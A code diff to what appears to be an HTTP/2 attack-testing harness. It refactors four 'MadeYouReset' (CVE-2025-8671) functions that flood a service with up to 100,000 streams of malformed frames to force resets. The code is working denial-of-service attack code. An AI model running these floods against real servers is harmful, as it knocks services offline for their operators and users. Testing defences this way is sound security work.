@@ -14,6 +14,8 @@ attack = register(ATTACKS, "HTTP/2")
 
 # Frames after which an attacker gives up: no defence has stopped it.
 ENOUGH = 100_000
+# What ends a flood of streams to be reset: PROTOCOL_ERROR where more than 100 come before the first resets are sent.
+RESETS = (CALM, PROTOCOL)
 ODD = [stream for stream in range(1, 2 * ENOUGH + 1, 2)]
 
 
@@ -156,27 +158,28 @@ def rapid_reset_of_large_work(service):
 @attack
 def made_you_reset_by_window_overflow(service):
     """CVE-2025-8671: a valid request, then a frame that makes the server reset it."""
-    return flood(service, lambda wire: (
+    return flood(service, codes=RESETS, frames=lambda wire: (
         wire.headers(stream, end=False, path="/softmax") + window(stream, 2**31 - 1) for stream in ODD))
 
 
 @attack
 def made_you_reset_by_empty_window_update(service):
-    return flood(service, codes=(CALM, PROTOCOL), frames=lambda wire: (
+    return flood(service, codes=RESETS, frames=lambda wire: (
         wire.headers(stream, end=False, path="/softmax") + window(stream, 0) for stream in ODD))
 
 
 @attack
 def made_you_reset_by_content_length(service):
     """One byte announced, more sent."""
-    return flood(service, lambda wire: (
+    return flood(service, codes=RESETS, frames=lambda wire: (
         wire.headers(stream, [("content-length", "1")], end=False, path="/softmax") + data(stream, b"[1]", end=True)
         for stream in ODD))
 
 
 @attack
 def made_you_reset_by_fields(service):
-    return flood(service, lambda wire: (wire.headers(stream, [("connection", "x")]) for stream in ODD))
+    return flood(service, codes=RESETS, frames=lambda wire: (
+        wire.headers(stream, [("connection", "x")]) for stream in ODD))
 
 
 @attack
